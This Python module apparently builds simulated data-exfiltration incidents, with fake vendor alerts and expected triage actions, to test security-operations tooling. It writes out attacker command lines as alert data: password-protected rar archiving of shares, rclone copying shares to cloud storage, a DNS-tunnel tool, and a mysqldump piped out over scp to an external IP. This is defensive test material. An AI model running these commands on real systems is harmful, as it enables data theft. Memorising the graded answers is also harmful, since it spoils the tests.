"""data_exfiltration stories: uploads over C2, to cloud storage, over DNS, slowly, by insiders."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import datetime, timedelta

from devtools.builtin_suite.scenes import BUCKETS, edr_process
from devtools.builtin_suite.story import WORKDAYS, Story, clock, forbid_defaults, template
from devtools.northwind import (
    APP_SERVERS,
    C2_LOADER_DOMAIN,
    C2_LOADER_IP,
    DNS_RESOLVER,
    DOMAIN,
    FILE_SERVERS,
    HOSTILE_COUNTRIES,
    HQ_EGRESS,
    OFFICE_STAFF,
    PEOPLE,
    SIGNED,
    UBUNTU,
    asset,
    country_name,
    laptop,
)
from devtools.vendor_records.common import EXPLORER, SERVICES, Proc, Record, eve_time, winproc
from devtools.vendor_records.elastic import elastic_alert
from devtools.vendor_records.guardduty import gd_access_key, gd_api, guardduty_finding
from devtools.vendor_records.microsoft import (
    defender_alert,
    dv_device,
    dv_ip,
    dv_process,
    dv_url,
    dv_user,
)
from devtools.vendor_records.ocsf import CASB, DLP, ocsf_finding
from devtools.vendor_records.okta import BROWSER_UA
from devtools.vendor_records.suricata import suricata_alert
from devtools.vendor_records.wazuh import wazuh_alert
from tierzero.tools.inventory import (
    Asset,
)

# ============================================================================================
# data_exfiltration
# ============================================================================================


def http_upload(
    at: datetime,
    src: Asset,
    ip: str,
    host: str | None,
    size: int,
    *,
    signature: str,
    sid: int,
    priority: int,
    techniques: Sequence[str] = (),
) -> Record:
    """Suricata: an HTTP(S) POST of ``size`` bytes from ``src``."""
    return suricata_alert(
        at,
        src=src.ips[0],
        dst=ip,
        dport=443 if host is None else 80,
        sid=sid,
        signature=signature,
        category="Potential Corporate Privacy Violation",
        priority=priority,
        techniques=techniques,
        app_proto="http",
        extra={
            "http": {
                "hostname": host or ip,
                "url": f"/api/v2/sync?part={size % 97}",
                "http_user_agent": BROWSER_UA,
                "http_content_type": "application/octet-stream",
                "http_method": "POST",
                "protocol": "HTTP/1.1",
                "status": 200,
                "length": 0,
                "request_headers": [{"name": "Content-Length", "value": str(size)}],
            },
            "flow": {
                "pkts_toserver": size // 1400 + 4,
                "pkts_toclient": size // 40000 + 3,
                "bytes_toserver": size + 1200,
                "bytes_toclient": 3188,
                "start": eve_time(at - timedelta(seconds=max(2, size // 10**6))),
            },
        },
    )


@template("data_exfiltration", 4)
def c2_bulk_upload(s: Story, i: int) -> None:
    server = asset(s.pick(FILE_SERVERS + APP_SERVERS))
    operator = s.pick(OFFICE_STAFF)
    if i == 0:
        ip, domain = C2_LOADER_IP, C2_LOADER_DOMAIN
    else:
        ip, domain = s.ext_ip(), s.domain()
    if i == 1:
        s.intel(domain, "domain", "Exfiltration endpoint of an extortion group", 80)
        s.intel(ip, "ip", f"Hosts {domain}", 75)
    known = i <= 1
    size = s.rng.randint(800, 2400) * 10**6
    archive = f"C:\\PerfLogs\\{s.hex(6)}.rar"
    s.start(s.pick([s.night_time(), s.evening_time()]))
    s.title = f"{size // 10**9 or 1} GB archive uploaded from {server.hostname} to {domain}"
    s.description = (
        f"With {operator.user}'s stolen credentials an intruder packs data on {server.hostname} "
        f"into a password-protected RAR archive and posts it, {size / 10**9:.1f} GB, to "
        f"{domain} ({ip})" + (", a destination threat intelligence knows." if known else ".")
    )
    rar = Proc(
        "C:\\PerfLogs\\rar.exe",
        f"C:\\PerfLogs\\rar.exe a -m5 -hp{s.hex(10)} {archive} D:\\Shares\\*",
        s.sha256(),
        winproc("cmd.exe", "cmd.exe", SERVICES),
    )
    s.add(
        "edr-archive",
        s.at(0),
        edr_process(
            ("crowdstrike", "elastic", "wazuh", "crowdstrike")[i],
            s.at(0),
            server,
            user=operator.user,
            title="Data archived with a password before transfer",
            description="An archiver packed many files from a share into an encrypted archive.",
            level=3,
            proc=rar,
            techniques=["T1560.001"],
        ),
    )
    spaced = domain.replace(".", " .", 1)
    s.alert(
        "suricata-upload",
        s.at(25),
        http_upload,
        server,
        ip,
        domain,
        size,
        signature=f"ET POLICY Large HTTP POST to Suspicious Domain ({spaced})"
        if known
        else "ET POLICY Large HTTP POST to a rare external destination (possible exfiltration)",
        sid=2061190 if known else 2061194,
        priority=1,
        techniques=["T1041"],
    )
    if i % 2 == 0:
        s.alert(
            "elastic-egress",
            s.at(40),
            elastic_alert,
            rule="Unusual Network Egress Volume from a Server",
            level=3,
            techniques=["T1041"],
            rule_type="machine_learning",
            description="A server sent far more data to one external destination than it ever has.",
            host=server,
            reason=f"{server.hostname} sent {size / 10**9:.1f} GB to {ip}.",
            source={"ip": server.ips[0]},
            destination={"ip": ip, "port": 80, "domain": domain},
            event={"category": ["network"], "type": ["connection"]},
        )
    s.case(
        "exfiltration",
        s.refs(),
        "true_positive",
        techniques=["T1560.001", "T1041"],
        evidence=["edr-archive", "suricata-upload"],
        actions=[("block_ip", ip), ("block_domain", domain), ("isolate_host", server.hostname)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", HQ_EGRESS), ("isolate_host", "SRV-DB-01"))


@template("data_exfiltration", 4)
def rclone_cloud_upload(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    share_server = asset(s.pick(FILE_SERVERS))
    share = s.pick(("Finance$", "Operations$", "HR$", "Projects$"))
    service = s.pick(("filedrop-cloud", "megasync-storage", "boxvault-share", "cloudstash"))
    domain = f"upload.{service}.example"
    ip = s.ext_ip()
    renamed = i == 2
    image = (
        "C:\\ProgramData\\svchost32.exe"
        if renamed
        else f"C:\\Users\\{user.user}\\Downloads\\rclone.exe"
    )
    s.start(s.workday_time(11, 17))
    s.title = f"rclone copies {share_server.hostname}\\{share} to {service}"
    s.description = (
        f"An intruder on {ws.hostname} runs rclone"
        + (" renamed to svchost32.exe" if renamed else "")
        + f" to copy \\\\{share_server.hostname}\\{share} to a {service} account."
    )
    rclone = Proc(
        image,
        f'"{image}" copy \\\\{share_server.hostname}\\{share} remote:bk '
        f"--transfers 16 --config C:\\Users\\Public\\rc.conf --no-check-certificate",
        s.sha256(),
        winproc("cmd.exe", "cmd.exe", EXPLORER),
    )
    s.alert(
        "elastic-rclone",
        s.at(0),
        elastic_alert,
        rule="Potential Data Exfiltration via Rclone",
        level=4,
        techniques=["T1567.002"],
        description="Identifies rclone (also when renamed, from its "
        "metadata) copying data to a remote storage provider.",
        host=ws,
        user=user.user,
        process=rclone,
        reason=f"process event with process {rclone.name} by {user.user} on {ws.hostname}.",
        event={"category": ["process"], "type": ["start"]},
    )
    s.alert(
        "suricata-storage",
        s.at(3),
        suricata_alert,
        src=ws.ips[0],
        dst=ip,
        dport=443,
        sid=2050118,
        signature=f"ET POLICY Observed File Sharing Service Domain ({domain}) in TLS SNI",
        category="Potential Corporate Privacy Violation",
        priority=3,
        app_proto="tls",
        techniques=["T1567.002"],
        extra={"tls": {"sni": domain, "version": "TLS 1.3"}},
    )
    if i % 2 == 0:
        s.alert(
            "defender-upload",
            s.at(20),
            defender_alert,
            title="Suspicious data upload to a cloud storage service",
            level=3,
            description=f"{rclone.name} uploaded a large volume of files to {service}.",
            category="Exfiltration",
            techniques=["T1567.002"],
            evidence=[
                dv_device(ws, users=[user.user]),
                dv_user(user.user),
                dv_process(rclone, user.user, s.at(20)),
                dv_url(f"https://{domain}/"),
                dv_ip(ip, roles=("destination",)),
            ],
        )
    s.case(
        "cloud-exfiltration",
        s.refs(),
        "true_positive",
        techniques=["T1039", "T1567.002"],
        evidence=["elastic-rclone", "suricata-storage"],
        actions=[("isolate_host", ws.hostname), ("block_domain", domain)],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", share_server.hostname))


@template("data_exfiltration", 4)
def dns_tunnel(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    domain = s.domain()
    tool = s.sha256()
    queries = s.rng.randint(3, 5)
    s.start(s.workday_time())
    s.title = f"DNS tunnel from {ws.hostname} to {domain}"
    s.description = (
        f"A tool on {ws.hostname} encodes stolen data in long TXT queries for {domain}, sent "
        "through the internal resolver."
    )
    for k in range(1, queries + 1):
        label = s.hex(56)
        when = s.at(k * 2)
        s.alert(
            f"suricata-long-query-{k}",
            when,
            suricata_alert,
            src=ws.ips[0],
            dst=DNS_RESOLVER,
            dport=53,
            proto="UDP",
            sid=2027863,
            signature="ET POLICY DNS Query with Unusually Long Subdomain (possible DNS tunneling)",
            category="Potentially Bad Traffic",
            priority=2,
            techniques=["T1071.004", "T1048.003"],
            app_proto="dns",
            extra={
                "dns": {
                    "type": "query",
                    "id": s.rng.randint(1, 65535),
                    "rrname": f"{label}.{s.hex(8)}.{domain}",
                    "rrtype": "TXT",
                }
            },
        )
    proc = Proc(
        "C:\\ProgramData\\Intel\\igfxdns.exe",
        f"C:\\ProgramData\\Intel\\igfxdns.exe "
        f"--dns server={DNS_RESOLVER},domain={domain} --secret {s.hex(16)}",
        tool,
        winproc("cmd.exe", "cmd.exe", EXPLORER),
    )
    s.add(
        "edr-tunnel-tool",
        s.at(1),
        edr_process(
            ("crowdstrike", "defender", "elastic", "crowdstrike")[i],
            s.at(1),
            ws,
            user=user.user,
            title="DNS tunneling tool",
            description="A process sends large volumes of TXT queries "
            "with encoded labels, which tunnels data over DNS.",
            level=4,
            proc=proc,
            techniques=["T1071.004"],
            destination=(DNS_RESOLVER, 53, domain),
        ),
    )
    s.case(
        "dns-tunnel",
        s.refs(),
        "true_positive",
        techniques=["T1071.004", "T1048.003"],
        evidence=["edr-tunnel-tool", "suricata-long-query-1"],
        actions=[("block_domain", domain), ("isolate_host", ws.hostname), ("block_hash", tool)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", DNS_RESOLVER))


@template("data_exfiltration", 4)
def low_and_slow_upload(s: Story, i: int) -> None:
    server = asset(("SRV-DB-02", "SRV-APP-04", "SRV-DB-02", "SRV-FS-02")[i])
    linux = server.os == UBUNTU
    ip = s.ext_ip()
    s.difficulty = "hard"
    day = s.pick(WORKDAYS[:10])
    s.start(clock(day, s.rng.randint(0, 5), s.rng.randint(0, 59)))
    s.title = f"Low-and-slow upload from {server.hostname} to {ip} over four days"
    s.description = (
        f"An implant on {server.hostname} posts a few hundred kilobytes to {ip} every few "
        "hours, for days. Each upload is a low-severity policy alert that soon looks routine; "
        "together they are the database leaving."
    )
    minute, k = 0, 0
    uploads = []
    while minute < 4 * 24 * 60:
        k += 1
        when = s.at(minute)
        uploads.append(
            s.alert(
                f"suricata-upload-{k:02d}",
                when,
                http_upload,
                server,
                ip,
                None,
                s.rng.randint(180, 900) * 1024,
                signature="ET INFO HTTP POST Request to a Raw IP Address",
                sid=2031502,
                priority=3,
            )
        )
        minute += s.rng.randint(3 * 60, 6 * 60)
    evidence = uploads[:1]
    if linux:
        script = Proc(
            "/usr/bin/python3.12",
            "python3 /var/tmp/.cache/sync.py --interval 4h",
            SIGNED["curl"],
            Proc("/usr/sbin/cron", "/usr/sbin/CRON -f"),
        )
        when = s.at(minute - 60)
        s.alert(
            "elastic-outbound-process",
            when,
            elastic_alert,
            rule="Unusual Process Making Outbound Connections",
            level=2,
            techniques=["T1029"],
            rule_type="machine_learning",
            description="A process that rarely talks to the internet made outbound connections.",
            host=server,
            user="postgres" if i == 0 else "mysql",
            process=script,
            reason=f"python3 on {server.hostname} connected to {ip}:443.",
            destination={"ip": ip, "port": 443},
            event={"category": ["network"]},
        )
        evidence.append("elastic-outbound-process")
    s.case(
        "slow-exfiltration",
        s.refs(),
        "true_positive",
        techniques=["T1029", "T1030", "T1041"],
        evidence=evidence,
        actions=[("block_ip", ip), ("isolate_host", server.hostname)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", HQ_EGRESS), ("isolate_host", "SRV-DB-01"))


@template("data_exfiltration", 4)
def s3_stolen_key(s: Story, i: int) -> None:
    user = s.pick(
        [PEOPLE["alice.martin"], PEOPLE["wei.zhang"], PEOPLE["xavier.lopez"], PEOPLE["yara.ali"]]
    )
    bucket = BUCKETS[i]
    key = "AKIA" + s.hex(16).upper()
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    objects = s.rng.randint(120, 480)
    s.start(s.pick([s.night_time(), s.evening_time(), s.workday_time()]))
    s.title = f"{user.user}'s AWS key lists and downloads {bucket} from {country}"
    s.description = (
        f"{user.name}'s access key {key}, leaked from a laptop backup, is used from {attacker} "
        f"({country_name(country)}) to list and read {objects} objects of {bucket}."
    )
    resource = gd_access_key(user.user, key_id=key, buckets=[bucket])
    if i == 3:
        tor = s.ext_ip()
        s.alert(
            "guardduty-tor-caller",
            s.at(-5),
            guardduty_finding,
            finding_type="UnauthorizedAccess:IAMUser/TorIPCaller",
            severity=5.0,
            title=f"A Tor exit node is calling APIs with the credentials of {user.user}.",
            description=f"ListBuckets was invoked from a Tor exit node with {user.user}'s key.",
            resource=gd_access_key(user.user, key_id=key),
            action=gd_api("ListBuckets", "s3.amazonaws.com", tor, "NL"),
        )
    s.alert(
        "guardduty-discovery",
        s.at(0),
        guardduty_finding,
        finding_type="Discovery:S3/AnomalousBehavior",
        severity=2.0,
        title=f"Unusual S3 API invocation by user {user.user}.",
        description=f"An API commonly used to discover S3 objects was invoked by IAM user "
        f"{user.user} in an anomalous way from {attacker}.",
        resource=resource,
        action=gd_api("ListObjects", "s3.amazonaws.com", attacker, country),
        count=14,
    )
    s.alert(
        "guardduty-exfiltration",
        s.at(15),
        guardduty_finding,
        finding_type="Exfiltration:S3/AnomalousBehavior",
        severity=8.0,
        title=f"Anomalous S3 data read by user {user.user}.",
        description=f"An API commonly used to read S3 objects was invoked by IAM user "
        f"{user.user} in an anomalous way from {attacker}; {objects} objects were read from "
        f"{bucket}.",
        resource=resource,
        action=gd_api("GetObject", "s3.amazonaws.com", attacker, country),
        count=objects,
        first_seen=s.at(2),
    )
    s.case(
        "s3-exfiltration",
        s.refs(),
        "true_positive",
        techniques=["T1078.004", "T1619", "T1530"],
        evidence=["guardduty-exfiltration", "guardduty-discovery"],
        actions=[("revoke_sessions", user.user), ("block_ip", attacker)],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", "i-0a1b2c3d4e5f60718"))


@template("data_exfiltration", 4)
def departing_insider(s: Story, i: int) -> None:
    user = s.pick([p for p in OFFICE_STAFF if p.department in ("Sales", "Operations", "Finance")])
    ws = laptop(user)
    webmail = s.pick(("mailbox-personal", "webpost", "freemail-box"))
    personal = f"{user.first.lower()}{s.rng.randint(70, 99)}@{webmail}.example"
    storage = s.pick(("personal-drive", "mycloudspace", "filebox-home")) + ".example"
    files = s.rng.randint(300, 2200)
    s.start(s.workday_time(15, 17))
    s.title = f"{user.name}, leaving Northwind, takes customer data to personal storage"
    s.description = (
        f"{user.name} has handed in their notice. In their last week they download {files} "
        f"files labelled Confidential from SharePoint, upload them to {storage} and mail a "
        f"customer list to {personal}."
    )
    site = f"https://{DOMAIN.split('.')[0]}.sharepoint.example/sites/{user.department}"
    s.alert(
        "dlp-bulk-download",
        s.at(0),
        ocsf_finding,
        product=DLP,
        title=f"Bulk download of Confidential files by {user.user}",
        desc=f"{files} files labelled Confidential were downloaded from {site} within an hour.",
        types=["Data Loss Prevention", "Bulk Download"],
        analytic=("LH-DLP-0102", "Bulk download of labelled files"),
        techniques=["T1213.002"],
        level=3,
        message=f"{files} Confidential files downloaded",
        device=ws,
        user=user.user,
        evidences=[{"url": {"url_string": site, "hostname": site.split("/")[2]}}],
        observables=[
            ("actor.user.name", 4, f"{user.user}@{DOMAIN}"),
            ("device.hostname", 1, ws.hostname),
        ],
    )
    s.alert(
        "casb-personal-upload",
        s.at(50),
        ocsf_finding,
        product=CASB,
        title="Upload of corporate files to a personal cloud account",
        desc=f"{user.user} uploaded {files - s.rng.randint(0, 100)} files to an unmanaged "
        f"{storage} account.",
        types=["Data Exfiltration", "Shadow IT"],
        analytic=("SKY-EXF-0009", "Upload to personal cloud storage"),
        techniques=["T1567.002"],
        level=4,
        message=f"Upload to {storage}",
        device=ws,
        user=user.user,
        evidences=[{"dst_endpoint": {"domain": storage, "port": 443}}],
        observables=[("dst_endpoint.domain", 99, storage)],
    )
    if i != 1:
        s.alert(
            "dlp-personal-mail",
            s.at(80),
            ocsf_finding,
            product=DLP,
            title="Customer list mailed to a personal address",
            desc=f"A message from {user.email} to {personal} carries a spreadsheet with "
            "customer contact data.",
            types=["Data Loss Prevention", "Email"],
            analytic=("LH-DLP-0140", "Sensitive attachment to personal address"),
            techniques=["T1048"],
            level=3,
            message="Sensitive attachment sent externally",
            user=user.user,
            evidences=[
                {
                    "email": {
                        "from": user.email,
                        "to": [personal],
                        "subject": f"{user.department} contacts",
                    }
                }
            ],
            observables=[("email.to", 5, personal)],
        )
    s.case(
        "insider-exfiltration",
        s.refs(),
        "true_positive",
        techniques=["T1213.002", "T1567.002", "T1048"],
        evidence=["dlp-bulk-download", "casb-personal-upload"],
        actions=[("revoke_sessions", user.user)],
    )
    forbid_defaults(s)
    s.forbid(("quarantine_email", user.email), ("block_domain", site.split("/")[2]))


@template("data_exfiltration", 3)
def database_dump_scp(s: Story, i: int) -> None:
    db = asset("SRV-DB-01")
    account = ("ops-maint", "reporting", "backup2")[i]
    dest = s.ext_ip()
    dump = f"/var/tmp/.{s.hex(6)}.sql.gz"
    s.start(s.pick([s.night_time(), s.evening_time()]))
    s.title = f"Finance database dumped on {db.hostname} and copied to {dest} over SCP"
    s.description = (
        f"With the stolen password of the local account '{account}', an intruder dumps the "
        f"finance database on {db.hostname}, the crown jewel, and copies it with scp to {dest}. "
        "Containment of the crown jewel itself is a human decision."
    )
    when = s.at(0)
    s.alert(
        "wazuh-mysqldump",
        when,
        wazuh_alert,
        db,
        rule_id="100711",
        level=10,
        description="Audit: mysqldump executed by an account that is not the backup service",
        groups=["audit", "audit_command"],
        techniques=["T1005"],
        data={
            "srcuser": account,
            "audit": {
                "type": "EXECVE",
                "exe": "/usr/bin/mysqldump",
                "command": "mysqldump",
                "execve": {
                    "a0": "mysqldump",
                    "a1": "--all-databases",
                    "a2": f"--result-file={dump}",
                },
                "uid": "1004",
                "auid": "1004",
                "key": "db_dump",
            },
        },
        full_log=f'type=EXECVE msg=audit({when.timestamp():.3f}:8812): argc=3 a0="mysqldump" '
        f'a1="--all-databases" a2="--result-file={dump}"',
        location="/var/log/audit/audit.log",
        decoder={"parent": "auditd", "name": "auditd"},
    )
    when = s.at(12)
    s.alert(
        "wazuh-scp-out",
        when,
        wazuh_alert,
        db,
        rule_id="100714",
        level=12,
        description="Audit: scp copied a file to an external host",
        groups=["audit", "audit_command", "exfiltration"],
        techniques=["T1048.002"],
        data={
            "srcuser": account,
            "dstip": dest,
            "dstport": "22",
            "audit": {
                "type": "EXECVE",
                "exe": "/usr/bin/scp",
                "command": "scp",
                "execve": {"a0": "scp", "a1": dump, "a2": f"u@{dest}:/d/"},
                "uid": "1004",
                "auid": "1004",
                "key": "remote_copy",
            },
        },
        full_log=f'type=EXECVE msg=audit({when.timestamp():.3f}:8840): argc=3 a0="scp" '
        f'a1="{dump}" a2="u@{dest}:/d/"',
        location="/var/log/audit/audit.log",
        decoder={"parent": "auditd", "name": "auditd"},
    )
    s.alert(
        "suricata-ssh-out",
        s.at(12.5),
        suricata_alert,
        src=db.ips[0],
        dst=dest,
        dport=22,
        sid=2003068,
        signature="ET POLICY SSH session from the database subnet to an external host",
        category="Potential Corporate Privacy Violation",
        priority=2,
        techniques=["T1048.002"],
        app_proto="ssh",
    )
    s.case(
        "database-theft",
        s.refs(),
        "true_positive",
        techniques=["T1005", "T1048.002"],
        evidence=["wazuh-mysqldump", "wazuh-scp-out"],
        actions=[("block_ip", dest)],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", db.hostname))
